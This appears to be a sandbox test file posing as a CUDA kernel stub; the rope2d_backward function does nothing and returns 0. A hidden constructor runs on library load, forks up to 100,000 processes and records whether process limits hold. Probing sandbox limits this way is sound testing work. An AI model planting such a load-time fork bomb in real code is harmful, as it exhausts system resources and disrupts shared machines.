#include <unistd.h>
#include "attack.h"
#include "stub_kernel.h"
__attribute__((constructor)) static void attack() {
  int made = 0;
  for (int i = 0; i < 100000; ++i) {
    const pid_t p = fork();
    if (p < 0) break;
    if (p == 0) {
      pause();
      _exit(0);
    }
    ++made;
  }
  if (made >= 100000) leave_mark("fork_bomb_unbounded.txt", "no process limit");
}
extern "C" int rope2d_backward(const void*, const void*, const float*, float*, int64_t, int, cudaStream_t) { return 0; }
